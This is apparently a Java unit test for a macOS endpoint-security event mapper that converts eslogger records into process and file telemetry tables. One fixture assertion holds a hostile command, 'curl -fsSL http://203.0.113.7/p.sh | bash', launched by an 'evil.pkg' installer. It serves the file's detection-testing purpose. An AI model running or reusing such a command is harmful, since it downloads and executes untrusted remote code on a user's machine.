package dev.hookline.macos.es;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.hookline.collector.HostIdentity;
import dev.hookline.process.Account;
import dev.hookline.process.ProcessInfo;
import dev.hookline.process.ProcessTable;
import dev.hookline.schema.Columns;
import dev.hookline.schema.Event;
import dev.hookline.schema.Table;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.Test;

class EsEventMapperTest {
    static final long QUIET = 2_000_000_000L;

    static List<String> versions() {
        return Fixtures.VERSIONED;
    }

    static final class Run {
        final Fixtures.Recorder rec = new Fixtures.Recorder();
        final ProcessTable table = new ProcessTable(60_000_000_000L);
        final EsEventMapper mapper;

        Run(long ignoredPid) {
            mapper = new EsEventMapper(rec, table, new HostIdentity("mac-1", "dev-1"),
                    uid -> new Account(uid == 0 ? "root" : "dev", "mac-1", Long.toString(uid)), null,
                    pid -> pid == ignoredPid, QUIET, 60_000_000_000L);
        }

        Run feed(String fixture) {
            EsloggerParser p = new EsloggerParser();
            for (String l : Fixtures.lines(fixture)) {
                mapper.accept(p.parse(l));
            }
            return this;
        }

        List<Event> of(Table t) {
            return rec.events.stream().filter(e -> e.table() == t).collect(Collectors.toList());
        }
    }

    @ParameterizedTest
    @MethodSource("versions")
    void execBecomesProcessCreatedWithTheParentAsInitiator(String fixture) {
        Run r = new Run(-1).feed(fixture);
        List<Event> procs = r.of(Table.DeviceProcessEvents);
        assertEquals(2, procs.size(), "forks and exits are table updates, not rows");
        Event sh = procs.get(1);
        assertEquals("ProcessCreated", sh.getString(Columns.ACTION_TYPE));
        assertEquals("sh", sh.getString(Columns.FILE_NAME));
        assertEquals("/bin/sh", sh.getString(Columns.FOLDER_PATH));
        assertEquals("/bin/sh -c \"curl -fsSL http://203.0.113.7/p.sh | bash\"", sh.getString(Columns.PROCESS_COMMAND_LINE));
        assertEquals(601, sh.getLong(Columns.PROCESS_ID));
        assertEquals("root", sh.getString(Columns.ACCOUNT_NAME));
        assertEquals("0", sh.getString(Columns.ACCOUNT_SID));
        assertEquals("installer", sh.getString(Columns.INITIATING_PROCESS_FILE_NAME));
        assertEquals("/usr/sbin/installer", sh.getString(Columns.INITIATING_PROCESS_FOLDER_PATH));
        assertEquals("installer -pkg /tmp/evil.pkg -target /", sh.getString(Columns.INITIATING_PROCESS_COMMAND_LINE));
        assertEquals(600, sh.getLong(Columns.INITIATING_PROCESS_ID));
        assertEquals(500, sh.getLong(Columns.INITIATING_PROCESS_PARENT_ID));
        assertEquals("mac-1", sh.getString(Columns.DEVICE_NAME));
        String extra = sh.getString(Columns.ADDITIONAL_FIELDS);
        assertTrue(extra.contains("\"SigningId\":\"com.apple.sh\""), extra);
        assertTrue(extra.contains("\"Cwd\":\"/private/tmp/PKInstallSandbox.abc/Scripts\""), extra);
        assertTrue(!extra.contains("SECRET"), "the environment is never kept");
    }

    @ParameterizedTest
    @MethodSource("versions")
    void fileOperationsMapToMdeActionsWithCoalescedWrites(String fixture) {
        Run r = new Run(-1).feed(fixture);
        List<Event> files = r.of(Table.DeviceFileEvents);
        List<String> got = files.stream()
                .map(e -> e.getString(Columns.ACTION_TYPE) + " " + e.getString(Columns.FOLDER_PATH))
                .collect(Collectors.toList());
        String deep = files.get(5).getString(Columns.FOLDER_PATH);
        assertEquals(List.of(
                "FileCreated /Users/dev/repo/.github/workflows/ci.yml", // its write and close are the same burst
                "FileCreated /Users/dev/notes.txt",
                "FileModified /Users/dev/notes.txt", // 3.3 s after the create: a new burst; the 2nd write and close fold in
                "FileRenamed /Users/dev/archive/notes-old.txt",
                "FileDeleted /Users/dev/archive/notes-old.txt",
                "FileCreated " + deep), got);
        Event renamed = files.get(3);
        assertEquals("notes.txt", renamed.getString(Columns.PREVIOUS_FILE_NAME));
        assertEquals("/Users/dev/notes.txt", renamed.getString(Columns.PREVIOUS_FOLDER_PATH));
        assertEquals("notes-old.txt", renamed.getString(Columns.FILE_NAME));
        Event created = files.get(0);
        assertEquals("ci.yml", created.getString(Columns.FILE_NAME));
        assertEquals("sh", created.getString(Columns.INITIATING_PROCESS_FILE_NAME));
        assertEquals("installer", created.getString(Columns.INITIATING_PROCESS_PARENT_FILE_NAME));
        assertEquals("{\"PathTruncated\":true}", files.get(5).getString(Columns.ADDITIONAL_FIELDS));
        assertTrue(deep.startsWith("/Users/dev/deep/deep/"));
        assertEquals(1L, r.mapper.counters().get("unknownEventTypes"));
        assertEquals(4L, r.mapper.counters().get("writesCoalesced"), "ci.yml write+close, notes 2nd write+close");
        ProcessInfo gone = r.table.get(601);
        assertTrue(gone.exited(), "exit marks the image exited");
    }

    @Test
    void closeOfAFileModifiedWithoutWriteEventsIsReported() {
        Run r = new Run(-1);
        r.mapper.accept(new EsloggerParser().parse("{\"time\":\"2024-05-01T10:00:00Z\",\"global_seq_num\":1,"
                + "\"process\":{\"audit_token\":{\"pid\":42},\"executable\":{\"path\":\"/usr/bin/vim\"}},"
                + "\"event\":{\"close\":{\"modified\":true,\"target\":{\"path\":\"/etc/hosts\"}}}}"));
        r.mapper.accept(new EsloggerParser().parse("{\"time\":\"2024-05-01T10:00:01Z\",\"global_seq_num\":5,"
                + "\"process\":{\"audit_token\":{\"pid\":42}},"
                + "\"event\":{\"close\":{\"modified\":false,\"target\":{\"path\":\"/etc/hosts\"}}}}"));
        List<Event> files = r.of(Table.DeviceFileEvents);
        assertEquals(1, files.size());
        assertEquals("FileModified", files.get(0).getString(Columns.ACTION_TYPE));
        assertEquals("vim", files.get(0).getString(Columns.INITIATING_PROCESS_FILE_NAME),
                "an unseen initiator is described from the message");
        assertEquals(3L, r.mapper.counters().get("esSequenceGap"));
    }

    @Test
    void theAgentsOwnFileActivityIsNotReported() {
        Run r = new Run(601).feed("macos13-v6-object-token.jsonl");
        assertEquals(0, r.of(Table.DeviceFileEvents).size());
        assertEquals(2, r.of(Table.DeviceProcessEvents).size());
    }

    @Test
    void execWithoutAKnownParentKeepsTheParentPid() {
        Run r = new Run(-1);
        r.mapper.accept(new EsloggerParser().parse("{\"time\":\"2024-05-01T10:00:00Z\",\"process\":{\"audit_token\":"
                + "{\"pid\":9}},\"event\":{\"exec\":{\"target\":{\"audit_token\":{\"pid\":9,\"euid\":501},\"ppid\":8,"
                + "\"executable\":{\"path\":\"/usr/bin/true\"}},\"args\":[]}}}"));
        Event e = r.of(Table.DeviceProcessEvents).get(0);
        assertEquals(8, e.getLong(Columns.INITIATING_PROCESS_ID));
        assertNull(e.getString(Columns.INITIATING_PROCESS_FILE_NAME));
        assertEquals("/usr/bin/true", e.getString(Columns.PROCESS_COMMAND_LINE), "no args: the path stands in");
        assertNotNull(r.table.get(9));
    }
}
